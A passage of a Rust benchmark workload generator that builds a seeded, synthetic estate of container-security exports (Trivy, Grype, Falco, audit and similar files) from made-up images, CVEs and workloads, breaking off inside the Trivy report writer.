//! Workload generator for the scale benchmarks: a synthetic but realistically shaped
//! estate of container-security exports, deterministic from a seed.
//!
//! ```text
//! cargo run --release --example gen_workload -- --out bench-data/1GB --size 1GB
//! cargo run --release --example gen_workload -- --out DIR --seed 1 --images 500 --days 90 \
//!     --falco-alerts 2000000 --audit-events 2000000 [--gzip]
//! cargo run --release --example gen_workload -- --out bench-data/fleet --preset trivy-fleet \
//!     [--images 400 --vulns-per-image 300]
//! ```
//!
//! `--preset trivy-fleet` is the other shape users have: an image fleet scanned once, one
//! Trivy report per image with many vulnerabilities each, and nothing else (no runtime,
//! audit, benchmark or policy files).
//!
//! Layout written under `--out`:
//!
//! | folder | content |
//! |---|---|
//! | `trivy/<week>/<image>.json` | Trivy image JSON, SchemaVersion 2: one report per image per week |
//! | `grype/<image>.json` | Grype JSON for the latest build of every image |
//! | `kube-bench/<week>/<node>.json` | kube-bench `{Controls,Totals}`, one per node per week |
//! | `falco/falco-<day>.jsonl` | Falco alerts (JSON Lines) plus hourly metrics heartbeats per node |
//! | `k8s-audit/audit-<day>.jsonl` | API-server audit events `audit.k8s.io/v1` (JSON Lines) |
//! | `policy-report/<week>.json` | Kyverno PolicyReports (`wgpolicyk8s.io/v1alpha2`) as a `List` |
//! | `tetragon/tetragon-<day>.jsonl` | Tetragon `process_exec` events (JSON Lines) |
//!
//! With `--gzip` the JSON Lines files are written as `.jsonl.gz`. Every file gets its own
//! PRNG stream derived from the seed and the file's identity, so the files are generated
//! in parallel (rayon) and the output is byte-identical whatever the thread count.
//! Nothing here uses the `rand` crate: the PRNG is splitmix64 seeding xorshift64*.

use chrono::{Duration, NaiveDate};
use clap::Parser;
use rayon::prelude::*;
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};

// ---------------------------------------------------------------------------------------
// Command line
// ---------------------------------------------------------------------------------------

/// Generate a synthetic estate of security-tool exports.
#[derive(Parser, Debug)]
struct Args {
    /// Output folder (created).
    #[arg(long)]
    out: PathBuf,
    /// PRNG seed: the same seed and knobs give byte-identical output.
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// Size preset that picks the knobs below: 10MB, 100MB, 1GB or 5GB (explicit knobs win).
    #[arg(long)]
    size: Option<String>,
    /// Distinct images (repositories) in the estate.
    #[arg(long)]
    images: Option<u64>,
    /// Days of history (ending the day before 2026-11-20).
    #[arg(long)]
    days: Option<u64>,
    /// Falco alerts over the whole period.
    #[arg(long)]
    falco_alerts: Option<u64>,
    /// Kubernetes audit events over the whole period.
    #[arg(long)]
    audit_events: Option<u64>,
    /// Tetragon process_exec events over the whole period (default: a sixth of the Falco alerts).
    #[arg(long)]
    tetragon_events: Option<u64>,
    /// Write JSON Lines files gzip-compressed (`.jsonl.gz`).
    #[arg(long)]
    gzip: bool,
    /// A workload shape instead of a size: `trivy-fleet` (one Trivy report per image).
    #[arg(long)]
    preset: Option<String>,
    /// Vulnerabilities in every image (default: long-tailed around the OS mean; the
    /// fleet preset uses 300).
    #[arg(long)]
    vulns_per_image: Option<u64>,
}

/// The resolved knobs.
#[derive(Debug, Clone, Copy)]
struct Knobs {
    images: u64,
    days: u64,
    falco_alerts: u64,
    audit_events: u64,
    tetragon_events: u64,
    /// Every image has this many vulnerabilities, all present in every week.
    vulns_per_image: Option<u64>,
    /// Only Trivy reports, one per image (the last week's).
    trivy_only: bool,
}

/// Preset knobs per size, calibrated so that the plain (uncompressed) output is close to
/// the nominal size, with most bytes in Falco, audit and Trivy, as in a real estate.
fn preset(size: &str) -> Option<Knobs> {
    let (images, days, falco, audit) = match size.to_ascii_uppercase().as_str() {
        "10MB" => (8, 14, 3_600, 2_400),
        "100MB" => (40, 30, 33_000, 21_000),
        "1GB" => (180, 90, 330_000, 210_000),
        "5GB" => (500, 90, 1_800_000, 1_500_000),
        _ => return None,
    };
    Some(Knobs {
        images,
        days,
        falco_alerts: falco,
        audit_events: audit,
        tetragon_events: falco / 6,
        vulns_per_image: None,
        trivy_only: false,
    })
}

/// The image fleet: 400 images scanned once, 300 vulnerabilities each.
fn fleet() -> Knobs {
    Knobs {
        images: 400,
        days: 7,
        falco_alerts: 0,
        audit_events: 0,
        tetragon_events: 0,
        vulns_per_image: Some(300),
        trivy_only: true,
    }
}

fn resolve(args: &Args) -> Result<Knobs, String> {
    let base = match (&args.preset, &args.size) {
        (Some(p), _) if p == "trivy-fleet" => fleet(),
        (Some(p), _) => return Err(format!("unknown --preset {p} (trivy-fleet)")),
        (None, Some(s)) => {
            preset(s).ok_or_else(|| format!("unknown --size {s} (10MB|100MB|1GB|5GB)"))?
        }
        (None, None) => Knobs {
            images: 500,
            days: 90,
            falco_alerts: 2_000_000,
            audit_events: 2_000_000,
            tetragon_events: 2_000_000 / 6,
            vulns_per_image: None,
            trivy_only: false,
        },
    };
    let falco_alerts = args.falco_alerts.unwrap_or(base.falco_alerts);
    let k = Knobs {
        images: args.images.unwrap_or(base.images).max(1),
        days: args.days.unwrap_or(base.days).max(1),
        falco_alerts,
        audit_events: args.audit_events.unwrap_or(base.audit_events),
        tetragon_events: args
            .tetragon_events
            .unwrap_or(if args.falco_alerts.is_some() {
                falco_alerts / 6
            } else {
                base.tetragon_events
            }),
        vulns_per_image: args.vulns_per_image.or(base.vulns_per_image),
        trivy_only: base.trivy_only,
    };
    Ok(k)
}

// ---------------------------------------------------------------------------------------
// PRNG
// ---------------------------------------------------------------------------------------

/// splitmix64: used to derive well-mixed seeds.
fn splitmix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = x;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// xorshift64* stream.
struct Rng(u64);

impl Rng {
    fn new(seed: u64, stream: u64) -> Rng {
        let s = splitmix(splitmix(seed) ^ splitmix(stream.wrapping_add(0x5851_F42D)));
        Rng(if s == 0 { 0x2545_F491_4F6C_DD1D } else { s })
    }
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// Uniform in `0..n` (n > 0). Below 2^32 from the high 32 bits (the streams every
    /// workload so far was generated with); above, from all 64 bits.
    fn below(&mut self, n: u64) -> u64 {
        if n <= 1 << 32 {
            ((self.next() >> 32) * n) >> 32
        } else {
            ((u128::from(self.next()) * u128::from(n)) >> 64) as u64
        }
    }
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn f64(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn hex(&mut self, out: &mut String, n: usize) {
        const HEX: &[u8; 16] = b"0123456789abcdef";
        let mut left = n;
        while left > 0 {
            let mut r = self.next();
            for _ in 0..left.min(16) {
                out.push(HEX[(r & 15) as usize] as char);
                r >>= 4;
            }
            left -= left.min(16);
        }
    }
    fn hex_string(&mut self, n: usize) -> String {
        let mut s = String::with_capacity(n);
        self.hex(&mut s, n);
        s
    }
    fn uuid(&mut self) -> String {
        let h = self.hex_string(32);
        format!(
            "{}-{}-4{}-a{}-{}",
            &h[0..8],
            &h[8..12],
            &h[13..16],
            &h[17..20],
            &h[20..32]
        )
    }
    /// Pick an index from cumulative weights.
    fn weighted(&mut self, cumulative: &[f64]) -> usize {
        let total = cumulative.last().copied().unwrap_or(1.0);
        let x = self.f64() * total;
        cumulative
            .partition_point(|c| *c <= x)
            .min(cumulative.len() - 1)
    }
}

fn cumulative(weights: impl Iterator<Item = f64>) -> Vec<f64> {
    let mut acc = 0.0;
    weights
        .map(|w| {
            acc += w;
            acc
        })
        .collect()
}

/// Stable 64-bit hash of a string (FNV-1a), to derive per-file PRNG streams.
fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
    })
}

// ---------------------------------------------------------------------------------------
// JSON writing helpers
// ---------------------------------------------------------------------------------------

/// Append `s` as a JSON string literal (escaped by serde_json when it needs escaping).
fn q(out: &mut String, s: &str) {
    if s.bytes().all(|b| b >= 0x20 && b != b'"' && b != b'\\') {
        out.push('"');
        out.push_str(s);
        out.push('"');
    } else {
        out.push_str(&serde_json::to_string(s).unwrap_or_default());
    }
}

/// Append a JSON array of strings.
fn q_list<S: AsRef<str>>(out: &mut String, items: &[S]) {
    out.push('[');
    for (i, s) in items.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        q(out, s.as_ref());
    }
    out.push(']');
}

/// `"key":` followed by the string value.
fn kv(out: &mut String, key: &str, value: &str) {
    out.push('"');
    out.push_str(key);
    out.push_str("\":");
    q(out, value);
}

// ---------------------------------------------------------------------------------------
// Time
// ---------------------------------------------------------------------------------------

const NS_PER_DAY: u64 = 86_400_000_000_000;

/// One day of the reporting window.
#[derive(Clone)]
struct Day {
    date: String,
    epoch_s: i64,
}

fn days_ending_before(as_of: NaiveDate, n: u64) -> Vec<Day> {
    (0..n)
        .map(|i| {
            let d = as_of - Duration::days((n - i) as i64);
            Day {
                date: d.format("%Y-%m-%d").to_string(),
                epoch_s: d
                    .and_hms_opt(0, 0, 0)
                    .map(|t| t.and_utc().timestamp())
                    .unwrap_or(0),
            }
        })
        .collect()
}

/// RFC 3339 time of `ns` nanoseconds into `day`, with `digits` fraction digits and a suffix.
fn ts(out: &mut String, day: &Day, ns: u64, digits: usize, suffix: &str) {
    let secs = ns / 1_000_000_000;
    let frac = ns % 1_000_000_000;
    let _ = write!(
        out,
        "{}T{:02}:{:02}:{:02}",
        day.date,
        secs / 3600,
        (secs / 60) % 60,
        secs % 60
    );
    match digits {
        9 => {
            let _ = write!(out, ".{frac:09}");
        }
        6 => {
            let _ = write!(out, ".{:06}", frac / 1000);
        }
        _ => {}
    }
    out.push_str(suffix);
}

fn ts_string(day: &Day, ns: u64, digits: usize) -> String {
    let mut s = String::with_capacity(32);
    ts(&mut s, day, ns, digits, "Z");
    s
}

/// Sorted random offsets within a day.
fn times_of_day(rng: &mut Rng, n: usize) -> Vec<u64> {
    let mut v: Vec<u64> = (0..n).map(|_| rng.below(NS_PER_DAY)).collect();
    v.sort_unstable();
    v
}

// ---------------------------------------------------------------------------------------
// The estate: images, vulnerabilities, nodes, workloads
// ---------------------------------------------------------------------------------------

struct Os {
    family: &'static str,
    name: &'static str,
    kind: &'static str, // trivy result Type
    grype_type: &'static str,
    pkgs: &'static [&'static str],
    /// Mean number of vulnerabilities of an image on this OS.
    mean_vulns: u64,
}

static OSES: &[Os] = &[
    Os {
        family: "debian",
        name: "12.7",
        kind: "debian",
        grype_type: "deb",
        pkgs: &[
            "openssl",
            "libssl3",
            "zlib1g",
            "curl",
            "libcurl4",
            "libc6",
            "libc-bin",
            "ncurses-base",
            "perl-base",
            "libxml2",
            "libsqlite3-0",
            "tar",
            "gzip",
            "bash",
            "libsystemd0",
            "util-linux",
            "libkrb5-3",
            "libexpat1",
            "libgnutls30",
            "libtasn1-6",
            "libpcre2-8-0",
            "login",
            "passwd",
            "coreutils",
            "libgcrypt20",
            "libzstd1",
            "liblzma5",
            "libtiff6",
            "libpng16-16",
            "git",
        ],
        mean_vulns: 90,
    },
    Os {
        family: "ubuntu",
        name: "22.04",
        kind: "ubuntu",
        grype_type: "deb",
        pkgs: &[
            "openssl",
            "libssl3",
            "zlib1g",
            "curl",
            "libcurl4",
            "libc6",
            "libc-bin",
            "ncurses-base",
            "perl-base",
            "libxml2",
            "libsqlite3-0",
            "tar",
            "gzip",
            "bash",
            "libsystemd0",
            "libudev1",
            "libkrb5-3",
            "libexpat1",
            "libgnutls30",
            "libpam0g",
            "libpcre3",
            "login",
            "python3.10",
        ],
        mean_vulns: 70,
    },
    Os {
        family: "alpine",
        name: "3.19.1",
        kind: "alpine",
        grype_type: "apk",
        pkgs: &[
            "busybox",
            "musl",
            "libcrypto3",
            "libssl3",
            "apk-tools",
            "ssl_client",
            "zlib",
            "libcurl",
            "expat",
            "libxml2",
        ],
        mean_vulns: 8,
    },
    Os {
        family: "redhat",
        name: "9.3",
        kind: "redhat",
        grype_type: "rpm",
        pkgs: &[
            "openssl-libs",
            "glibc",
            "zlib",
            "curl-minimal",
            "libcurl-minimal",
            "nss",
            "nspr",
            "python3",
            "systemd-libs",
            "krb5-libs",
            "libxml2",
            "sqlite-libs",
            "gnutls",
            "pam",
        ],
        mean_vulns: 45,
    },
];

/// Application ecosystems baked into images.
static LANGS: &[(&str, &str, &str, &[&str])] = &[
    (
        "python-pkg",
        "python",
        "usr/local/lib/python3.11/site-packages",
        &[
            "requests",
            "urllib3",
            "jinja2",
            "django",
            "cryptography",
            "pyyaml",
            "flask",
            "werkzeug",
        ],
    ),
    (
        "node-pkg",
        "npm",
        "app/node_modules",
        &[
            "lodash",
            "express",
            "minimist",
            "axios",
            "jsonwebtoken",
            "semver",
            "ws",
            "tough-cookie",
        ],
    ),
    (
        "jar",
        "java-archive",
        "app/lib",
        &[
            "log4j-core",
            "jackson-databind",
            "spring-core",
            "netty-handler",
            "snakeyaml",
            "guava",
        ],
    ),
    (
        "gobinary",
        "go-module",
        "usr/local/bin/app",
        &[
            "stdlib",
            "golang.org/x/net",
            "google.golang.org/grpc",
            "golang.org/x/crypto",
            "github.com/docker/docker",
        ],
    ),
];

static WORDS: &[&str] = &[
    "a",
    "flaw",
    "was",
    "found",
    "in",
    "the",
    "parser",
    "when",
    "handling",
    "crafted",
    "input",
    "which",
    "allows",
    "remote",
    "attackers",
    "to",
    "cause",
    "denial",
    "of",
    "service",
    "via",
    "heap-based",
    "buffer",
    "overflow",
    "out-of-bounds",
    "read",
    "write",
    "use-after-free",
    "integer",
    "certificate",
    "validation",
    "memory",
    "exhaustion",
    "request",
    "header",
    "length",
    "function",
    "library",
    "before",
    "version",
    "could",
    "lead",
    "arbitrary",
    "code",
    "execution",
    "information",
    "disclosure",
    "authentication",
    "bypass",
    "malformed",
    "packet",
    "TLS",
    "handshake",
    "session",
    "resumption",
    "decompression",
    "null",
    "pointer",
    "dereference",
    "race",
    "condition",
    "privilege",
    "escalation",
    "local",
    "user",
    "path",
    "traversal",
];

static SEVERITIES: &[(&str, f64, f64)] = &[
    // (trivy severity, weight, cvss base)
    ("LOW", 0.28, 3.3),
    ("MEDIUM", 0.40, 5.5),
    ("HIGH", 0.24, 7.5),
    ("CRITICAL", 0.05, 9.8),
    ("UNKNOWN", 0.03, 0.0),
];

fn title_case(sev: &str) -> String {
    let mut c = sev.chars();
    match c.next() {
        Some(f) => f.to_string() + &c.as_str().to_ascii_lowercase(),
        None => String::new(),
    }
}

/// One entry of the vulnerability database.
struct Cve {
    id: String,
    /// Index into OSES (distro vulnerability) or `100 + LANGS index`.
    eco: usize,
    pkg: &'static str,
    severity: &'static str,
    score: f64,
    fixed: Option<String>,
    /// The constant tail of a Trivy vulnerability object (Title…LastModifiedDate, no braces).
    trivy_tail: String,
    description: String,
    urls: Vec<String>,
}

fn sentence(rng: &mut Rng, words: usize) -> String {
    let mut s = String::new();
    for i in 0..words {
        if i > 0 {
            s.push(' ');
        }
        s.push_str(rng.pick::<&str>(WORDS));
    }
    s
}

fn version(rng: &mut Rng) -> String {
    format!(
        "{}.{}.{}",
        rng.range(0, 4),
        rng.range(0, 30),
        rng.range(0, 20)
    )
}

fn make_cve(rng: &mut Rng, n: usize, eco: usize, pkg: &'static str) -> Cve {
    let year = 2018 + rng.below(8);
    let id = if eco >= 100 && rng.chance(0.3) {
        format!(
            "GHSA-{}-{}-{}",
            rng.hex_string(4),
            rng.hex_string(4),
            rng.hex_string(4)
        )
    } else {
        format!("CVE-{year}-{}", 1000 + n * 7 + rng.below(7) as usize)
    };
    let sev_idx = rng.weighted(&cumulative(SEVERITIES.iter().map(|s| s.1)));
    let (severity, _, base) = SEVERITIES[sev_idx];
    let score = if base > 0.0 {
        ((base + rng.f64() * 1.2 - 0.6).clamp(0.1, 10.0) * 10.0).round() / 10.0
    } else {
        0.0
    };
    let fixed = rng.chance(0.7).then(|| version(rng));
    let words = 6 + rng.below(6) as usize;
    let title = format!("{pkg}: {}", sentence(rng, words));
    let words = 30 + rng.below(70) as usize;
    let mut description = sentence(rng, words);
    description.push('.');
    if rng.chance(0.1) {
        description.push_str(" Affected code: \"decode(buf, len)\" in lib\\codec.c.");
    }
    let lower = id.to_ascii_lowercase();
    let mut urls = vec![format!("https://avd.aquasec.com/nvd/{lower}")];
    for _ in 0..rng.range(2, 7) {
        urls.push(format!(
            "https://{}/{}/{}",
            rng.pick(&[
                "access.redhat.com/security/cve",
                "nvd.nist.gov/vuln/detail",
                "security-tracker.debian.org/tracker",
                "ubuntu.com/security",
                "github.com/advisories",
                "lists.debian.org/debian-lts-announce"
            ]),
            id,
            rng.hex_string(6)
        ));
    }
    let published = format!(
        "{year}-{:02}-{:02}T{:02}:15:{:02}Z",
        rng.range(1, 12),
        rng.range(1, 28),
        rng.range(0, 23),
        rng.range(0, 59)
    );
    let modified = format!(
        "{}-{:02}-{:02}T08:{:02}:11.673Z",
        (year + rng.below(2)).min(2026),
        rng.range(1, 12),
        rng.range(1, 28),
        rng.range(0, 59)
    );
    let mut t = String::with_capacity(1500);
    kv(&mut t, "Title", &title);
    t.push(',');
    kv(&mut t, "Description", &description);
    t.push(',');
    kv(&mut t, "Severity", severity);
    let _ = write!(
        t,
        ",\"CweIDs\":[\"CWE-{}\"]",
        rng.pick(&[20, 22, 79, 119, 125, 190, 400, 416, 476, 787])
    );
    let vendor = (sev_idx.min(3) + 1) as u8;
    let _ = write!(
        t,
        ",\"VendorSeverity\":{{\"nvd\":{vendor},\"redhat\":{},\"ghsa\":{vendor}}}",
        vendor.saturating_sub(rng.below(2) as u8).max(1)
    );
    if score > 0.0 {
        let _ = write!(
            t,
            ",\"CVSS\":{{\"nvd\":{{\"V3Vector\":\"CVSS:3.1/AV:N/AC:{}/PR:N/UI:{}/S:U/C:H/I:{}/A:H\",\"V3Score\":{score}}}}}",
            rng.pick(&["L", "H"]),
            rng.pick(&["N", "R"]),
            rng.pick(&["N", "L", "H"])
        );
    }
    t.push_str(",\"References\":");
    q_list(&mut t, &urls[1..]);
    let _ = write!(
        t,
        ",\"PublishedDate\":\"{published}\",\"LastModifiedDate\":\"{modified}\""
    );
    Cve {
        id,
        eco,
        pkg,
        severity,
        score,
        fixed,
        trivy_tail: t,
        description,
        urls,
    }
}

/// An image's exposure to one vulnerability over the weeks.
struct ImageVuln {
    cve: usize,
    installed: String,
    /// First week (inclusive) and last week (exclusive) in which scans report it.
    from_week: u64,
    to_week: u64,
    layer: usize,
}

struct Image {
    registry: &'static str,
    repo: String,
    slug: String,
    os: usize,
    lang: Option<usize>,
    created_day_offset: u64,
    layers: Vec<String>,
    vulns: Vec<ImageVuln>,
    /// Dockerfile misconfiguration ids (index into DOCKERFILE_CHECKS) that fail.
    misconf: Vec<usize>,
    /// Whether a secret is baked into the image.
    secret: bool,
    /// The tag is bumped every `rebuild_weeks`.
    rebuild_weeks: u64,
    minor: u64,
}

impl Image {
    fn build_no(&self, week: u64) -> u64 {
        week / self.rebuild_weeks
    }
    fn tag(&self, week: u64) -> String {
        format!("1.{}.{}", self.minor, self.build_no(week))
    }
    fn digest(&self, week: u64, seed: u64) -> String {
        let h = splitmix(fnv(&self.repo) ^ self.build_no(week) ^ seed);
        format!(
            "sha256:{:016x}{:016x}{:016x}{:016x}",
            h,
            splitmix(h),
            splitmix(h ^ 1),
            splitmix(h ^ 2)
        )
    }
    fn image_id(&self, week: u64, seed: u64) -> String {
        let h = splitmix(fnv(&self.repo) ^ self.build_no(week) ^ seed ^ 0xABCD);
        format!(
            "sha256:{:016x}{:016x}{:016x}{:016x}",
            h,
            splitmix(h),
            h ^ 7,
            splitmix(h ^ 3)
        )
    }
    fn full_repo(&self) -> String {
        format!("{}/{}", self.registry, self.repo)
    }
}

static DOCKERFILE_CHECKS: &[(&str, &str, &str, &str)] = &[
    (
        "DS-0001",
        "':latest' tag used",
        "MEDIUM",
        "Add a tag to the image in the 'FROM' statement",
    ),
    (
        "DS-0002",
        "Image user should not be 'root'",
        "HIGH",
        "Add 'USER <non root user name>' line to the Dockerfile",
    ),
    (
        "DS-0005",
        "ADD instead of COPY",
        "LOW",
        "Use COPY instead of ADD",
    ),
    (
        "DS-0013",
        "'RUN cd ...' to change directory",
        "MEDIUM",
        "Use WORKDIR to change directory",
    ),
    (
        "DS-0026",
        "No HEALTHCHECK defined",
        "LOW",
        "Add HEALTHCHECK instruction in your Dockerfile",
    ),
    (
        "DS-0029",
        "'apt-get' missing '--no-install-recommends'",
        "HIGH",
        "Add '--no-install-recommends' flag to 'apt-get'",
    ),
];

struct Node {
    name: String,
    ip: String,
}

struct Workload {
    ns: String,
    name: String,
    kind: &'static str,
    uid: String,
    image: usize,
    pods: Vec<(String, usize, String)>, // (pod name, node index, container id)
    container: String,
    privileged: bool,
    run_as_root: bool,
    host_path: bool,
    latest: bool,
}

struct Estate {
    seed: u64,
    days: Vec<Day>,
    weeks: u64,
    cves: Vec<Cve>,
    images: Vec<Image>,
    nodes: Vec<Node>,
    workloads: Vec<Workload>,
    /// Cumulative weights over workloads: a few noisy workloads raise most alerts.
    workload_weights: Vec<f64>,
    namespaces: Vec<String>,
}

static TEAMS: &[&str] = &[
    "payments",
    "checkout",
    "catalog",
    "search",
    "identity",
    "platform",
    "data",
    "ml",
    "mobile-bff",
    "billing",
    "notifications",
    "reporting",
    "ledger",
    "fraud",
    "shipping",
    "inventory",
];
static APPS: &[&str] = &[
    "api",
    "worker",
    "web",
    "gateway",
    "scheduler",
    "consumer",
    "exporter",
    "frontend",
    "sync",
    "indexer",
    "cron",
    "proxy",
    "migrator",
    "admin",
];
static REGISTRIES: &[&str] = &[
    "registry.example.com",
    "registry.example.com",
    "registry.example.com",
    "ghcr.io/example",
    "docker.io",
    "quay.io/example",
];

fn build_estate(seed: u64, knobs: Knobs) -> Estate {
    let mut rng = Rng::new(seed, 0);
    let as_of = NaiveDate::from_ymd_opt(2026, 11, 20).unwrap_or_default();
    let days = days_ending_before(as_of, knobs.days);
    let weeks = knobs.days.div_ceil(7);

    // Vulnerability database: per ecosystem, a pool of CVEs.
    let mut cves = Vec::new();
    let mut by_eco: Vec<(usize, Vec<usize>)> = Vec::new();
    let pool = (200 + knobs.images * 6).min(6000) as usize;
    for (e, os) in OSES.iter().enumerate() {
        let mut ids = Vec::new();
        for _ in 0..pool {
            let pkg = rng.pick(os.pkgs);
            ids.push(cves.len());
            let c = make_cve(&mut rng, cves.len(), e, pkg);
            cves.push(c);
        }
        by_eco.push((e, ids));
    }
    for (l, lang) in LANGS.iter().enumerate() {
        let mut ids = Vec::new();
        for _ in 0..pool / 4 {
            let pkg = rng.pick(lang.3);
            ids.push(cves.len());
            let c = make_cve(&mut rng, cves.len(), 100 + l, pkg);
            cves.push(c);
        }
        by_eco.push((100 + l, ids));
    }
    let eco_pool = |eco: usize| -> &Vec<usize> {
        &by_eco
            .iter()
            .find(|(e, _)| *e == eco)
            .expect("every ecosystem has a pool")
            .1
    };

    let mut images = Vec::new();
    for i in 0..knobs.images {
        let team = TEAMS[(i as usize) % TEAMS.len()];
        let app = rng.pick(APPS);
        let repo = format!("{team}/{app}-{i}");
        let os = rng.weighted(&cumulative([0.45, 0.2, 0.25, 0.1].into_iter()));
        let lang = rng
            .chance(0.7)
            .then(|| rng.below(LANGS.len() as u64) as usize);
        let layers: Vec<String> = (0..rng.range(3, 8))
            .map(|_| format!("sha256:{}", rng.hex_string(64)))
            .collect();
        // Vulnerability count: long-tailed around the OS mean.
        let mean = OSES[os].mean_vulns as f64;
        let n = match knobs.vulns_per_image {
            Some(n) => n as usize,
            None => (mean * (-(1.0 - rng.f64()).ln()) * 0.9) as usize,
        };
        let fixed_count = knobs.vulns_per_image.is_some();
        let mut vulns = Vec::with_capacity(n);
        let os_pool = eco_pool(os);
        for _ in 0..n {
            let cve = if let (Some(l), true) = (lang, rng.chance(0.3)) {
                *rng.pick(eco_pool(100 + l))
            } else {
                *rng.pick(os_pool)
            };
            let from_week = if fixed_count || rng.chance(0.8) {
                0
            } else {
                rng.below(weeks)
            };
            let to_week = if fixed_count || rng.chance(0.7) {
                weeks + 1
            } else {
                from_week + 1 + rng.below(weeks)
            };
            let installed = version(&mut rng);
            vulns.push(ImageVuln {
                cve,
                installed,
                from_week,
                to_week,
                layer: rng.below(layers.len() as u64) as usize,
            });
        }
        let misconf = (0..DOCKERFILE_CHECKS.len())
            .filter(|_| rng.chance(0.25))
            .collect();
        images.push(Image {
            registry: rng.pick::<&'static str>(REGISTRIES),
            slug: repo.replace('/', "_"),
            repo,
            os,
            lang,
            created_day_offset: rng.below(200),
            layers,
            vulns,
            misconf,
            secret: rng.chance(0.04),
            rebuild_weeks: rng.range(2, 8),
            minor: rng.below(40),
        });
    }

    let node_count = (knobs.images / 12).clamp(3, 200);
    let nodes: Vec<Node> = (0..node_count)
        .map(|n| {
            let pool = if n % 5 == 4 { "system" } else { "workload" };
            Node {
                name: format!(
                    "aks-{pool}-{}-vmss{:06x}",
                    10_000_000 + n * 7919 % 9_000_000,
                    n
                ),
                ip: format!("10.240.{}.{}", n / 200, 4 + n % 200),
            }
        })
        .collect();

    let ns_count = (knobs.images / 8).clamp(3, 120) as usize;
    let mut namespaces: Vec<String> = (0..ns_count)
        .map(|i| {
            format!(
                "{}-{}",
                TEAMS[i % TEAMS.len()],
                ["prod", "staging", "dev"][i / TEAMS.len() % 3]
            )
        })
        .collect();
    namespaces.sort();
    namespaces.dedup();

    let mut workloads = Vec::new();
    for (i, img) in images.iter().enumerate() {
        for _ in 0..rng.range(1, 3) {
            let ns = rng.pick(&namespaces).clone();
            let name = img.repo.rsplit('/').next().unwrap_or("app").to_string();
            let kind = if rng.chance(0.1) {
                "StatefulSet"
            } else {
                "Deployment"
            };
            let rs = rng.hex_string(10);
            let pods = (0..rng.range(1, 4))
                .map(|p| {
                    let pod = if kind == "StatefulSet" {
                        format!("{name}-{p}")
                    } else {
                        format!("{name}-{rs}-{}", rng.hex_string(5))
                    };
                    let node = rng.below(node_count) as usize;
                    (pod, node, rng.hex_string(64))
                })
                .collect();
            workloads.push(Workload {
                uid: rng.uuid(),
                container: name.split('-').next().unwrap_or("app").to_string(),
                ns,
                name,
                kind,
                image: i,
                pods,
                privileged: rng.chance(0.05),
                run_as_root: rng.chance(0.3),
                host_path: rng.chance(0.06),
                latest: rng.chance(0.08),
            });
        }
    }
    let mut order: Vec<usize> = (0..workloads.len()).collect();
    for i in (1..order.len()).rev() {
        let j = rng.below(i as u64 + 1) as usize;
        order.swap(i, j);
    }
    let mut w = vec![0.0; workloads.len()];
    for (rank, idx) in order.iter().enumerate() {
        w[*idx] = 1.0 / ((rank + 1) as f64).powf(0.9);
    }
    Estate {
        seed,
        days,
        weeks,
        cves,
        images,
        nodes,
        workloads,
        workload_weights: cumulative(w.into_iter()),
        namespaces,
    }
}

/// Week index of a day index, and the first day index of a week.
fn week_start(week: u64) -> usize {
    (week * 7) as usize
}

// ---------------------------------------------------------------------------------------
// Trivy
// ---------------------------------------------------------------------------------------

fn trivy_report(e: &Estate, img_idx: usize, week: u64, rng: &mut Rng) -> String {
    let img = &e.images[img_idx];
    let os = &OSES[img.os];
    let day_idx = (week_start(week) + img_idx % 7).min(e.days.len() - 1);
    let day = &e.days[day_idx];
    let tag = img.tag(week);
    let full = img.full_repo();
    let name = format!("{full}:{tag}");
    let digest = img.digest(week, e.seed);
    let mut o = String::with_capacity(64 * 1024);
    o.push_str("{\n  \"SchemaVersion\": 2,\n  \"CreatedAt\": \"");
    ts(
        &mut o,
        day,
        3_600_000_000_000 * 2 + img_idx as u64 * 1_733_000_000,
        9,
        "Z\",\n",
    );
    let _ = write!(
        o,
        "  \"ArtifactName\": \"{name}\",\n  \"ArtifactType\": \"container_image\",\n  \"Metadata\": {{\n    \"Size\": {},\n    \"OS\": {{\"Family\": \"{}\", \"Name\": \"{}\"}},\n    \"ImageID\": \"{}\",\n    \"DiffIDs\": ",
        50_000_000 + rng.below(800_000_000),
        os.family,
        os.name,
        img.image_id(week, e.seed)
    );
    q_list(&mut o, &img.layers);
    let _ = write!(
        o,
        ",\n    \"RepoTags\": [\"{name}\"],\n    \"RepoDigests\": [\"{full}@{digest}\"],\n    \"ImageConfig\": {{\"architecture\": \"amd64\", \"created\": \"{}\", \"os\": \"linux\", \"rootfs\": {{\"type\": \"layers\", \"diff_ids\": ",
        ts_string(&e.days[day_idx.saturating_sub((img.created_day_offset % 5) as usize)], 3_000_000_000_000, 9)
    );
    q_list(&mut o, &img.layers);
    let _ = write!(
        o,
        "}}, \"config\": {{\"Cmd\": [\"/app/start\"], \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_VERSION={tag}\"], \"Labels\": {{\"org.opencontainers.image.source\": \"https://git.example.com/{}\", \"org.opencontainers.image.version\": \"{tag}\"}}, \"User\": \"{}\"}}}}\n  }},\n  \"Results\": [",
        img.repo,
        if img.misconf.contains(&1) { "" } else { "10001" }
    );
    // OS packages, then language packages.
    let live: Vec<&ImageVuln> = img
        .vulns
        .iter()
        .filter(|v| v.from_week <= week && week < v.to_week)
        .collect();
    let mut first_result = true;
    let mut result = |o: &mut String,
                      target: &str,
                      class: &str,
                      kind: &str,
